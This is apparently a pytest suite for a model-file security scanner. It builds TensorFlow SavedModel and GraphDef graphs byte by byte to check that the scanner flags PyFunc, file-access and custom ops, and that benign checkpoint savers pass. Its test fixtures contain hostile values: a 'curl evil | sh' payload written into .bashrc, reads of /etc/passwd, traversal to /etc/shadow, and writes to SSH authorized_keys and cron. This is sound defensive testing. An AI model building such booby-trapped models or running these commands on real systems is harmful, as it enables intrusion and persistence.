"""TensorFlow SavedModel and frozen GraphDef files, written byte by byte (TensorFlow is not
installed and never imported): benign graphs with the standard saver pass; Python, file and custom
ops are reported wherever they hide; checkpoint ops are exempt only when fed by the saver.
"""

from __future__ import annotations

import io
import os
import tarfile
import zipfile
from collections.abc import Iterable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from modeltrust import Severity, scan_paths
from modeltrust.cli import EXIT_FAILED, EXIT_OK, main
from modeltrust.scanners.engine import Engine
from modeltrust.scanners.tensors import savedmodel
from modeltrust.scanners.tensors.savedmodel import SavedModelScanner, sniff_kind, standard_ops
from tests.helpers import rule_ids, serious

FUZZ = settings(
    max_examples=int(os.environ.get("MODELTRUST_FUZZ_EXAMPLES", "150")),
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


# --- a tiny protobuf encoder for the TensorFlow messages -----------------------------------------
def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        b, n = n & 0x7F, n >> 7
        out.append(b | (0x80 if n else 0))
        if not n:
            return bytes(out)


def f_int(number: int, value: int) -> bytes:
    return _varint(number << 3) + _varint(value)


def f_bytes(number: int, value: bytes | str) -> bytes:
    data = value.encode() if isinstance(value, str) else value
    return _varint(number << 3 | 2) + _varint(len(data)) + data


def attr(key: str, value: bytes) -> bytes:
    """A NodeDef.attr map entry."""
    return f_bytes(5, f_bytes(1, key) + f_bytes(2, value))


def av_string(s: str) -> bytes:
    return f_bytes(2, s)


def av_func(name: str) -> bytes:
    return f_bytes(10, f_bytes(1, name))


def av_string_tensor(*values: str) -> bytes:
    return f_bytes(8, f_int(1, 7) + b"".join(f_bytes(9, v) for v in values))


def node(name: str, op: str, *inputs: str, attrs: Iterable[bytes] = ()) -> bytes:
    return (
        f_bytes(1, name)
        + f_bytes(2, op)
        + b"".join(f_bytes(3, i) for i in inputs)
        + b"".join(attrs)
    )


def const(name: str, *strings: str) -> bytes:
    value = av_string_tensor(*strings) if strings else f_bytes(8, f_int(1, 3))
    return node(name, "Const", attrs=[attr("dtype", f_int(6, 7)), attr("value", value)])


def call(name: str, function: str, *inputs: str, op: str = "StatefulPartitionedCall") -> bytes:
    return node(name, op, *inputs, attrs=[attr("f", av_func(function))])


def function(name: str, args: Iterable[str], nodes: Iterable[bytes]) -> bytes:
    signature = f_bytes(1, name) + b"".join(f_bytes(2, f_bytes(1, a)) for a in args)
    return f_bytes(1, signature) + b"".join(f_bytes(3, n) for n in nodes)


def graph(nodes: Iterable[bytes], functions: Iterable[bytes] = (), gradients: bytes = b"") -> bytes:
    body = b"".join(f_bytes(1, n) for n in nodes)
    library = b"".join(f_bytes(1, fn) for fn in functions) + gradients
    if library:
        body += f_bytes(2, library)
    return body + f_bytes(3, f_int(1, 1087))


def meta_graph(
    graph_def: bytes,
    saver: str | None = None,
    *,
    tags: Iterable[str] = ("serve",),
    concrete: Iterable[str] = (),
    version: str = "2.15.0",
) -> bytes:
    info = b"".join(f_bytes(4, t) for t in tags) + f_bytes(5, version) + f_bytes(6, "v2.15.0-rc1")
    body = f_bytes(1, info) + f_bytes(2, graph_def)
    if saver is not None:
        body += f_bytes(3, f_bytes(1, saver) + f_bytes(2, "save/Identity:0") + f_int(7, 2))
    if concrete:
        entries = b"".join(f_bytes(2, f_bytes(1, c) + f_bytes(2, b"")) for c in concrete)
        body += f_bytes(7, entries)
    return body


def saved_model(*metas: bytes) -> bytes:
    return f_int(1, 1) + b"".join(f_bytes(2, m) for m in metas)


# --- realistic graphs ----------------------------------------------------------------------------
MODEL_NODES = [
    node("x", "Placeholder", attrs=[attr("dtype", f_int(6, 1))]),
    const("w"),
    node("MatMul", "MatMul", "x", "w"),
    const("b"),
    node("Add", "Add", "MatMul", "b"),
    node("output", "Identity", "Add"),
]


def tf1_saver_nodes() -> list[bytes]:
    """The subgraph tf.compat.v1.train.Saver(sharded=True) adds, by name and wiring."""
    return [
        const("save/filename/input", "model"),
        node("save/filename", "PlaceholderWithDefault", "save/filename/input"),
        node("save/Const", "PlaceholderWithDefault", "save/filename"),
        node("save/StaticRegexFullMatch", "StaticRegexFullMatch", "save/Const"),
        const("save/Const_1", ".part"),
        const("save/Const_2", "_temp_6f3a0c/part"),
        node("save/Select", "Select", "save/StaticRegexFullMatch", "save/Const_1", "save/Const_2"),
        node("save/StringJoin", "StringJoin", "save/Const", "save/Select"),
        const("save/num_shards"),
        const("save/ShardedFilename/shard"),
        node(
            "save/ShardedFilename",
            "ShardedFilename",
            "save/StringJoin",
            "save/ShardedFilename/shard",
            "save/num_shards",
        ),
        const("save/SaveV2/tensor_names", "b", "w"),
        const("save/SaveV2/shape_and_slices", "", ""),
        node(
            "save/SaveV2",
            "SaveV2",
            "save/ShardedFilename",
            "save/SaveV2/tensor_names",
            "save/SaveV2/shape_and_slices",
            "b",
            "w",
        ),
        node("save/control_dependency", "Identity", "save/ShardedFilename", "^save/SaveV2"),
        node("save/MergeV2Checkpoints/checkpoint_prefixes", "Pack", "save/ShardedFilename"),
        node(
            "save/MergeV2Checkpoints",
            "MergeV2Checkpoints",
            "save/MergeV2Checkpoints/checkpoint_prefixes",
            "save/Const",
        ),
        node("save/Identity", "Identity", "save/Const", "^save/MergeV2Checkpoints"),
        const("save/RestoreV2/tensor_names", "b", "w"),
        const("save/RestoreV2/shape_and_slices", "", ""),
        node(
            "save/RestoreV2",
            "RestoreV2",
            "save/Const",
            "save/RestoreV2/tensor_names",
            "save/RestoreV2/shape_and_slices",
        ),
        node("save/Assign", "Assign", "w", "save/RestoreV2:1"),
        node("save/restore_shard", "NoOp", "^save/Assign"),
        node("save/restore_all", "NoOp", "^save/restore_shard"),
    ]


def tf1_model(extra: Iterable[bytes] = (), functions: Iterable[bytes] = ()) -> bytes:
    nodes = [*MODEL_NODES, *tf1_saver_nodes(), *extra]
    return saved_model(meta_graph(graph(nodes, functions), "save/Const:0", version="1.15.5"))


def traced_save(name: str = "__inference__traced_save_45") -> bytes:
    return function(
        name,
        ["file_prefix", "savev2_w", "savev2_const"],
        [
            node("StaticRegexFullMatch", "StaticRegexFullMatch", "file_prefix"),
            const("Const", ".part"),
            const("Const_1", "_temp/part"),
            node(
                "Select",
                "Select",
                "StaticRegexFullMatch:output:0",
                "Const:output:0",
                "Const_1:output:0",
            ),
            node("StringJoin", "StringJoin", "file_prefix", "Select:output:0"),
            const("num_shards"),
            const("ShardedFilename/shard"),
            node(
                "ShardedFilename",
                "ShardedFilename",
                "StringJoin:output:0",
                "ShardedFilename/shard:output:0",
                "num_shards:output:0",
            ),
            const("SaveV2/tensor_names", "w"),
            const("SaveV2/shape_and_slices", ""),
            node(
                "SaveV2",
                "SaveV2",
                "ShardedFilename:filename:0",
                "SaveV2/tensor_names:output:0",
                "SaveV2/shape_and_slices:output:0",
                "savev2_w",
                "savev2_const",
            ),
            node(
                "MergeV2Checkpoints/checkpoint_prefixes",
                "Pack",
                "ShardedFilename:filename:0",
                "^SaveV2",
            ),
            node(
                "MergeV2Checkpoints",
                "MergeV2Checkpoints",
                "MergeV2Checkpoints/checkpoint_prefixes:output:0",
                "file_prefix",
            ),
            node("Identity", "Identity", "file_prefix", "^MergeV2Checkpoints"),
        ],
    )


def traced_restore(name: str = "__inference__traced_restore_58") -> bytes:
    return function(
        name,
        ["file_prefix", "assignvariableop_w"],
        [
            const("RestoreV2/tensor_names", "w"),
            const("RestoreV2/shape_and_slices", ""),
            node(
                "RestoreV2",
                "RestoreV2",
                "file_prefix",
                "RestoreV2/tensor_names:output:0",
                "RestoreV2/shape_and_slices:output:0",
            ),
            node("Identity", "Identity", "RestoreV2:tensors:0"),
            node("AssignVariableOp", "AssignVariableOp", "assignvariableop_w", "Identity:output:0"),
        ],
    )


def serve_function(name: str = "__inference_serve_21", body: Iterable[bytes] = ()) -> bytes:
    return function(
        name,
        ["x", "matmul_readvariableop_resource"],
        [
            node("MatMul/ReadVariableOp", "ReadVariableOp", "matmul_readvariableop_resource"),
            node("MatMul", "MatMul", "x", "MatMul/ReadVariableOp:value:0"),
            node("Relu", "Relu", "MatMul:product:0"),
            node("Identity", "Identity", "Relu:activations:0"),
            *body,
        ],
    )


def tf2_model(
    extra_nodes: Iterable[bytes] = (),
    extra_functions: Iterable[bytes] = (),
    concrete: Iterable[str] = ("__inference_serve_21",),
    serve_body: Iterable[bytes] = (),
) -> bytes:
    nodes = [
        node("serving_default_x", "Placeholder"),
        node("w", "VarHandleOp"),
        call("StatefulPartitionedCall", "__inference_serve_21", "serving_default_x", "w"),
        node("saver_filename", "Placeholder"),
        const("Const"),
        call(
            "StatefulPartitionedCall_1",
            "__inference__traced_save_45",
            "saver_filename",
            "w",
            "Const",
        ),
        call("StatefulPartitionedCall_2", "__inference__traced_restore_58", "saver_filename", "w"),
        *extra_nodes,
    ]
    functions = [serve_function(body=serve_body), traced_save(), traced_restore(), *extra_functions]
    return saved_model(meta_graph(graph(nodes, functions), "saver_filename:0", concrete=concrete))


def write(tmp_path: Path, data: bytes, name: str = "saved_model.pb") -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


def findings(
    tmp_path: Path, data: bytes, name: str = "saved_model.pb"
) -> list[tuple[str, Severity, str]]:
    result = scan_paths([write(tmp_path, data, name)])
    assert "MT-INT-001" not in rule_ids(result), serious(result)
    return [(f.rule_id, f.severity, f.message) for f in result.findings]


# --- happy path ----------------------------------------------------------------------------------
def test_tf1_model_with_its_saver_is_clean(tmp_path: Path) -> None:
    result = scan_paths([write(tmp_path, tf1_model())])
    assert result.findings == ()
    (scanned,) = result.files
    assert "tf-savedmodel" in scanned.formats
    assert dict(scanned.facts)["tensorflow.version"] == "1.15.5"
    assert dict(scanned.facts)["tensorflow.git_version"] == "v2.15.0-rc1"


def test_tf2_model_saving_through_traced_functions_is_clean(tmp_path: Path) -> None:
    result = scan_paths([write(tmp_path, tf2_model())])
    assert result.findings == ()
    assert result.files[0].formats == ("tf-savedmodel",)
    assert main(["scan", str(tmp_path / "saved_model.pb"), "--no-progress"]) == EXIT_OK


def test_functions_called_by_op_name_are_not_custom_ops(tmp_path: Path) -> None:
    helper = function("my_helper_fn", ["a"], [node("Identity", "Identity", "a")])
    data = tf2_model(
        extra_nodes=[node("h", "my_helper_fn", "serving_default_x")], extra_functions=[helper]
    )
    assert findings(tmp_path, data) == []


def test_frozen_graph_def(tmp_path: Path) -> None:
    result = scan_paths([write(tmp_path, graph(MODEL_NODES), "frozen.pb")])
    assert result.findings == ()
    assert result.files[0].formats == ("tf-graphdef",)
    evil = graph(
        [*MODEL_NODES, node("py", "PyFunc", "x", attrs=[attr("token", av_string("pyfunc_0"))])]
    )
    got = findings(tmp_path, evil, "frozen.pb")
    assert [(r, s) for r, s, _ in got] == [("MT-TF-001", Severity.CRITICAL)]
    assert "pyfunc_0" in got[0][2]


def test_standard_op_list() -> None:
    ops = standard_ops()
    assert len(ops) > 1500
    assert {"MatMul", "Conv2D", "StatefulPartitionedCall", "SaveV2", "PyFunc", "_Arg"} <= ops
    assert "MyEvilOp" not in ops
    assert all(op.isidentifier() or ">" in op for op in ops)


# --- malicious ops -------------------------------------------------------------------------------
def test_pyfunc_in_the_graph_is_critical(tmp_path: Path) -> None:
    got = findings(
        tmp_path, tf1_model([node("evil", "PyFunc", "x"), node("evil2", "EagerPyFunc", "x")])
    )
    assert sorted((r, s) for r, s, _ in got) == [("MT-TF-001", Severity.CRITICAL)] * 2
    assert any("node 'evil'" in m for _, _, m in got)
    assert main(["scan", str(tmp_path / "saved_model.pb"), "--no-progress"]) == EXIT_FAILED


def test_pyfunc_hidden_in_an_uncalled_library_function(tmp_path: Path) -> None:
    hidden = function("innocent_looking", ["a"], [node("p", "PyFuncStateless", "a")])
    got = findings(tmp_path, tf2_model(extra_functions=[hidden]))
    assert [(r, s) for r, s, _ in got] == [("MT-TF-001", Severity.CRITICAL)]
    assert "function 'innocent_looking'" in got[0][2]


def test_read_file_of_etc_passwd(tmp_path: Path) -> None:
    data = tf2_model(
        serve_body=[const("path", "/etc/passwd"), node("rf", "ReadFile", "path:output:0")]
    )
    got = findings(tmp_path, data)
    assert [(r, s) for r, s, _ in got] == [("MT-TF-002", Severity.HIGH)]
    assert "'/etc/passwd'" in got[0][2]
    assert "ReadFile" in got[0][2]


def test_write_file_and_other_file_ops(tmp_path: Path) -> None:
    extra = [
        const("target", "/home/user/.bashrc"),
        const("payload", "curl evil | sh"),
        node("wf", "WriteFile", "target", "payload"),
        node("ls", "MatchingFiles", "target"),
        node("mm", "ImmutableConst", attrs=[attr("memory_region_name", av_string("/dev/mem"))]),
        node("dbg", "DebugIdentity", "x"),
    ]
    got = findings(tmp_path, tf1_model(extra))
    by_op = {m.split(" ")[0]: (r, s) for r, s, m in got}
    ops = ("WriteFile", "MatchingFiles", "ImmutableConst", "DebugIdentity")
    assert by_op == dict.fromkeys(ops, ("MT-TF-002", Severity.HIGH))
    assert any("'/dev/mem'" in m for _, _, m in got)


def test_unknown_op_is_a_custom_op(tmp_path: Path) -> None:
    got = findings(tmp_path, tf1_model([node("c1", "MyEvilOp", "x"), node("c2", "MyEvilOp", "c1")]))
    assert [(r, s) for r, s, _ in got] == [("MT-TF-003", Severity.HIGH)]
    assert "'MyEvilOp'" in got[0][2]
    assert "node 'c1'" in got[0][2] and "node 'c2'" in got[0][2]


def test_conditional_file_ops(tmp_path: Path) -> None:
    extra = [
        node("p", "PrintV2", "x", attrs=[attr("output_stream", av_string("file:///tmp/leak"))]),
        node("ok_print", "PrintV2", "x", attrs=[attr("output_stream", av_string("stderr"))]),
        node(
            "dp", "DecodeProtoV2", "x", attrs=[attr("descriptor_source", av_string("/etc/x.desc"))]
        ),
        node("asset", "Placeholder"),
        node("vocab", "InitializeTableFromTextFileV2", "table", "asset"),
        const("evil_vocab_path", "../../../etc/shadow"),
        node("vocab2", "InitializeTableFromTextFileV2", "table", "evil_vocab_path"),
        const("empty", ""),
        node("cache", "CacheDatasetV2", "ds", "empty", "mem"),
        const("cache_file", "cache.bin"),
        node("cache2", "CacheDatasetV2", "ds", "cache_file", "mem"),
    ]
    got = findings(tmp_path, tf1_model(extra))
    flagged = sorted(m.split(" ")[0] for _, _, m in got)
    assert flagged == [
        "CacheDatasetV2",
        "DecodeProtoV2",
        "InitializeTableFromTextFileV2",
        "PrintV2",
    ]
    assert all(r == "MT-TF-002" for r, _, _ in got)
    assert any("'../../../etc/shadow'" in m for _, _, m in got)


# --- the checkpoint exemption cannot be borrowed -------------------------------------------------
def test_save_op_writing_to_a_constant_path_is_reported(tmp_path: Path) -> None:
    extra = [
        const("save_evil/prefix", "/home/user/.ssh/authorized_keys"),
        node(
            "save_evil/SaveV2",
            "SaveV2",
            "save_evil/prefix",
            "save/SaveV2/tensor_names",
            "save/SaveV2/shape_and_slices",
            "w",
        ),
    ]
    got = findings(tmp_path, tf1_model(extra))
    assert [(r, s) for r, s, _ in got] == [("MT-TF-002", Severity.HIGH)]
    assert "authorized_keys" in got[0][2]
    assert "saver's filename tensor" in got[0][2]


def test_saver_path_joined_with_a_traversal_is_reported(tmp_path: Path) -> None:
    extra = [
        const("evil_suffix", "/../../../.bashrc"),
        node("evil_join", "StringJoin", "save/Const", "evil_suffix"),
        node(
            "evil_save",
            "SaveV2",
            "evil_join",
            "save/SaveV2/tensor_names",
            "save/SaveV2/shape_and_slices",
            "w",
        ),
    ]
    got = findings(tmp_path, tf1_model(extra))
    assert [(r, s) for r, s, _ in got] == [("MT-TF-002", Severity.HIGH)]


def test_restore_from_a_signature_input_is_reported(tmp_path: Path) -> None:
    extra = [
        node(
            "evil_restore",
            "RestoreV2",
            "x",
            "save/RestoreV2/tensor_names",
            "save/RestoreV2/shape_and_slices",
        )
    ]
    got = findings(tmp_path, tf1_model(extra))
    assert [(r, s) for r, s, _ in got] == [("MT-TF-002", Severity.HIGH)]


def test_save_names_without_a_saver_def_need_a_placeholder_root(tmp_path: Path) -> None:
    nodes = [
        *MODEL_NODES,
        const("save/Const", "/etc/cron.d/evil"),
        node("save/SaveV2", "SaveV2", "save/Const", "t", "s", "w"),
    ]
    got = findings(tmp_path, saved_model(meta_graph(graph(nodes))))
    assert [(r, s) for r, s, _ in got] == [("MT-TF-002", Severity.HIGH)]
    assert "/etc/cron.d/evil" in got[0][2]
    benign = [
        *MODEL_NODES,
        node("save/Const", "Placeholder"),
        node("save/SaveV2", "SaveV2", "save/Const", "t", "s", "w"),
    ]
    assert findings(tmp_path, saved_model(meta_graph(graph(benign)))) == []


def test_saver_def_overrides_names(tmp_path: Path) -> None:
    """With a SaverDef, only its filename tensor is a root; a node merely named like one is not."""
    nodes = [
        *MODEL_NODES,
        node("saver_filename", "Placeholder"),
        node("SaveV2", "SaveV2", "saver_filename", "t", "s", "w"),
    ]
    got = findings(tmp_path, saved_model(meta_graph(graph(nodes), "real_saver_filename:0")))
    assert [r for r, _, _ in got] == ["MT-TF-002"]


def test_checkpoint_op_in_a_concrete_function_is_reported(tmp_path: Path) -> None:
    """A concrete function can be called from Python with any path."""
    data = tf2_model(concrete=["__inference_serve_21", "__inference__traced_save_45"])
    got = findings(tmp_path, data)
    assert sorted(m.split(" ")[0] for _, _, m in got) == ["MergeV2Checkpoints", "SaveV2"]


def test_traced_save_also_called_with_a_constant_path_is_reported(tmp_path: Path) -> None:
    extra = [
        const("evil_path", "/tmp/drop"),
        call("StatefulPartitionedCall_3", "__inference__traced_save_45", "evil_path", "w", "Const"),
    ]
    got = findings(tmp_path, tf2_model(extra_nodes=extra))
    assert sorted(m.split(" ")[0] for _, _, m in got) == ["MergeV2Checkpoints", "SaveV2"]


def test_function_used_as_a_loop_body_gets_untrusted_arguments(tmp_path: Path) -> None:
    extra = [
        node(
            "loop",
            "While",
            "saver_filename",
            attrs=[attr("body", av_func("__inference__traced_restore_58"))],
        )
    ]
    got = findings(tmp_path, tf2_model(extra_nodes=extra))
    assert [m.split(" ")[0] for _, _, m in got] == ["RestoreV2"]


def test_call_with_the_wrong_number_of_arguments_is_not_trusted(tmp_path: Path) -> None:
    extra = [call("StatefulPartitionedCall_3", "__inference__traced_restore_58", "saver_filename")]
    got = findings(tmp_path, tf2_model(extra_nodes=extra))
    assert [m.split(" ")[0] for _, _, m in got] == ["RestoreV2"]


def test_cyclic_plumbing_does_not_hang(tmp_path: Path) -> None:
    extra = [
        node("loop_a", "Identity", "loop_b"),
        node("loop_b", "StringJoin", "loop_a", "save/Const"),
        node("evil_save", "SaveV2", "loop_a", "t", "s", "w"),
    ]
    got = findings(tmp_path, tf1_model(extra))
    assert [r for r, _, _ in got] == ["MT-TF-002"]


def test_long_plumbing_chain_is_bounded(tmp_path: Path) -> None:
    chain = [node("c0", "Identity", "save/Const")]
    chain += [node(f"c{i}", "Identity", f"c{i - 1}") for i in range(1, 3000)]
    chain.append(node("deep_save", "SaveV2", "c2999", "t", "s", "w"))
    got = findings(tmp_path, tf1_model(chain))
    assert [r for r, _, _ in got] == ["MT-TF-002"]


# --- several meta graphs, containers -------------------------------------------------------------
def test_each_meta_graph_is_checked_and_named(tmp_path: Path) -> None:
    clean = meta_graph(graph(MODEL_NODES), tags=["serve"])
    evil = meta_graph(graph([*MODEL_NODES, node("p", "PyFunc", "x")]), tags=["train", "gpu"])
    got = findings(tmp_path, saved_model(clean, evil))
    assert [(r, s) for r, s, _ in got] == [("MT-TF-001", Severity.CRITICAL)]
    assert "meta graph 1 (train,gpu)" in got[0][2]


def test_saved_model_inside_a_tar_and_a_zip(tmp_path: Path) -> None:
    data = tf1_model([node("p", "PyFunc", "x")])
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        info = tarfile.TarInfo("model/saved_model.pb")
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    tar_path = write(tmp_path, buf.getvalue(), "model.tar")
    zbuf = io.BytesIO()
    with zipfile.ZipFile(zbuf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("export/saved_model.pb", data)
    zip_path = write(tmp_path, zbuf.getvalue(), "model.zip")
    for path in (tar_path, zip_path):
        result = scan_paths([path])
        hits = [f for f in result.findings if f.rule_id == "MT-TF-001"]
        assert len(hits) == 1, serious(result)
        assert hits[0].location.members[-1].endswith("saved_model.pb")


# --- malformed input and limits ------------------------------------------------------------------
def test_truncated_saved_model_reports_what_it_saw(tmp_path: Path) -> None:
    data = tf1_model([node("p", "PyFunc", "x")])
    got = findings(tmp_path, data[: len(data) - 20])
    rules = {r for r, _, _ in got}
    assert "MT-TF-004" in rules
    assert all(s >= Severity.HIGH for _, s, _ in got)


def test_whole_meta_graphs_before_a_truncation_are_judged(tmp_path: Path) -> None:
    evil = meta_graph(graph([*MODEL_NODES, node("p", "PyFunc", "x")]))
    data = saved_model(evil, meta_graph(graph(MODEL_NODES)))
    got = findings(tmp_path, data[:-30])
    assert sorted(r for r, _, _ in got) == ["MT-TF-001", "MT-TF-004"]


@pytest.mark.parametrize(
    "body",
    [
        f_bytes(2, f_int(2, 5)),  # graph_def as a varint
        f_bytes(2, f_bytes(2, b"\x0b")),  # a group
        f_bytes(2, f_bytes(2, f_bytes(1, f_int(1, 1)))),  # NodeDef.name as a varint
    ],
)
def test_malformed_meta_graphs(tmp_path: Path, body: bytes) -> None:
    got = findings(tmp_path, f_int(1, 1) + f_bytes(2, f_bytes(1, b"") + body))
    assert [r for r, _, _ in got] == ["MT-TF-004"]


def test_deep_nesting_is_a_finding_not_a_crash(tmp_path: Path) -> None:
    attr_value = b""
    for _ in range(200):
        attr_value = f_bytes(10, f_bytes(2, f_bytes(1, "k") + f_bytes(2, attr_value)))
    data = tf1_model([node("n", "While", attrs=[attr("body", attr_value)])])
    findings(tmp_path, data)


def test_message_over_two_gib_is_not_parsed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(savedmodel, "MAX_MESSAGE", 100)
    got = findings(tmp_path, tf1_model())
    assert [(r, s) for r, s, _ in got] == [("MT-TF-004", Severity.HIGH)]


def test_other_protobufs_are_not_claimed(tmp_path: Path) -> None:
    onnx_like = f_int(1, 8) + f_bytes(2, "pytorch") + f_bytes(3, "2.1") + f_bytes(7, b"")
    assert sniff_kind(onnx_like) is None
    empty_producer = f_int(1, 7) + f_bytes(2, b"") + f_bytes(3, "1.0")
    assert sniff_kind(empty_producer) is None
    assert sniff_kind(b"\nhello world\n") is None
    assert sniff_kind(f_bytes(1, f_int(1, 3))) is None  # a NodeDef needs a name and an op
    scanner = SavedModelScanner()
    engine = Engine([scanner])
    for data in (empty_producer, b"\x08\x01\x12\x02\x0a\x00\x1a\x00"):
        result = engine.scan([write(tmp_path, data, "other.data")])
        assert result.findings == ()
        assert "tf-savedmodel" not in result.files[0].formats


def test_sniff_is_structural() -> None:
    data = tf1_model()
    assert sniff_kind(data[:512]) == "savedmodel"
    assert sniff_kind(data[:100]) == "savedmodel"  # truncated: still claimed, then reported
    assert sniff_kind(graph(MODEL_NODES)[:512]) == "graphdef"


# --- fuzz ----------------------------------------------------------------------------------------
SEEDS = [tf1_model([node("p", "PyFunc", "x")]), tf2_model(), graph(MODEL_NODES)]
ENGINE = Engine()


@FUZZ
@given(
    st.sampled_from(SEEDS),
    st.lists(st.tuples(st.integers(0, 10_000), st.integers(0, 255)), max_size=6),
    st.integers(0, 4000),
)
def test_mutated_models_never_crash(
    tmp_path: Path, seed: bytes, edits: list[tuple[int, int]], cut: int
) -> None:
    data = bytearray(seed)
    for pos, value in edits:
        data[pos % len(data)] = value
    path = tmp_path / "saved_model.pb"
    path.write_bytes(bytes(data[: cut or None]))
    result = ENGINE.scan([path])
    assert not [f.message for f in result.findings if f.rule_id == "MT-INT-001"]
